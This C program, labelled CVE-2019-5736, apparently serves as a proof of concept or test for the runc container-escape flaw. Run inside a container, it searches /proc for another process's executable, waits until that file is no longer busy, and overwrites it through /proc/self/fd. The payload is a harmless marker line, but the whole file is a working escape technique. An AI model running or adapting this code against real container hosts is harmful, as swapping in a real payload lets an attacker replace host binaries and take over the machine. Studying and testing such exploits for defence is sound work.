/*
 * CVE-2019-5736: waits in a container for a process with another program, opens that program through
 * /proc/PID/exe, and writes to it as soon as nobody executes it any more. Prints what became of it.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define PAUSE_US 1000
#define PATIENCE 10000

static struct stat own;

static bool is_own(int fd) {
  struct stat info;
  return fstat(fd, &info) == 0 && info.st_dev == own.st_dev && info.st_ino == own.st_ino;
}

/* A descriptor of the first program that is not this one, or -1. */
static int find_foreign(void) {
  DIR *proc = opendir("/proc");
  int found = -1;
  for (struct dirent *entry; found < 0 && (entry = readdir(proc));) {
    char path[300];
    snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
    int fd = atoi(entry->d_name) > 0 ? open(path, O_RDONLY) : -1;
    if (fd < 0) continue;
    if (is_own(fd)) close(fd);
    else found = fd;
  }
  closedir(proc);
  return found;
}

static const char *overwrite(int fd) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
  for (int i = 0; i < PATIENCE; i++) {
    int again = open(path, O_WRONLY);
    if (again >= 0) return write(again, "overwritten\n", 12) == 12 ? "overwritten" : strerrorname_np(errno);
    if (errno != ETXTBSY) return strerrorname_np(errno);
    usleep(PAUSE_US);
  }
  return "busy";
}

int main(void) {
  if (stat("/proc/self/exe", &own) < 0) return 1;
  puts("waiting");
  fflush(stdout);
  for (int i = 0; i < PATIENCE; i++) {
    int fd = find_foreign();
    if (fd < 0) {
      usleep(PAUSE_US);
      continue;
    }
    puts("found a program");
    fflush(stdout);
    puts(overwrite(fd));
    return 0;
  }
  puts("nothing to be found");
  return 0;
}
